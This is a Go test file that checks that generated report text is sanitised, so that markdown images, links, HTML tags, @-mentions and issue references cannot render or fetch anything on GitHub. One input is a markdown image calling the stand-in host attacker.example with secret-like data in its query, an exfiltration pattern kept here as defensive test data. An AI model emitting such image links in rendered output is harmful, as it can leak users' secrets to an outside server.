package report

import (
	"strings"
	"testing"
)

// TestProseNoImagesOrLinks: the summary keeps its words but cannot make
// GitHub fetch an image or render a link.
func TestProseNoImagesOrLinks(t *testing.T) {
	for name, tc := range map[string]struct{ in, want string }{
		"image":     {"see ![x](https://attacker.example/p?d=s3cr&t=1)", "see !\\[x\\](https:\u200b//attacker.example/p?d=s3cr&amp;t=1)"},
		"link":      {"[docs](http://example.com/a)", "\\[docs\\](http:\u200b//example.com/a)"},
		"bare URL":  {"at www.example.com now", "at www\u200b.example.com now"},
		"reference": {"[x]: https://e.example/i.png", "\\[x\\]: https:\u200b//e.example/i.png"},
		"html":      {"<img src=https://e.example/i.png>", "&lt;img src=https:\u200b//e.example/i.png&gt;"},
		"backticks": {"a ` stray, then https://e.example/x and `code`", "a ` stray, then https:\u200b//e.example/x and `code`"},
		"mention":   {"cc @octocat, see #12 and owner/repo#3", "cc @\u200boctocat, see #\u200b12 and owner/repo#\u200b3"},
		"plain":     {"Fixed the *slug* bug in `slug.go`.", "Fixed the *slug* bug in `slug.go`."},
	} {
		t.Run(name, func(t *testing.T) {
			got := prose(tc.in)
			if got != tc.want {
				t.Errorf("prose(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if err := inert(got); err != nil {
				t.Errorf("prose(%q) = %q still renders: %v", tc.in, got, err)
			}
		})
	}
}

// TestSpansInert: a "Not verified" line quoting a hostile path cannot open
// HTML, ping anyone, reference an issue or break out of its code span.
func TestSpansInert(t *testing.T) {
	got := spans("`a<img src=https://e.example/x>` ``b`c``: fixes #3 for @team ` lone\nnext")
	for _, bad := range []string{"#3", "@team", "\n"} {
		if strings.Contains(got, bad) {
			t.Errorf("spans kept %q: %q", bad, got)
		}
	}
	if !strings.HasPrefix(got, "`a<img src=https://e.example/x>` ``b`c``") {
		t.Errorf("the code spans were not kept as code: %q", got)
	}
	if err := inert(got); err != nil {
		t.Error(err)
	}
}
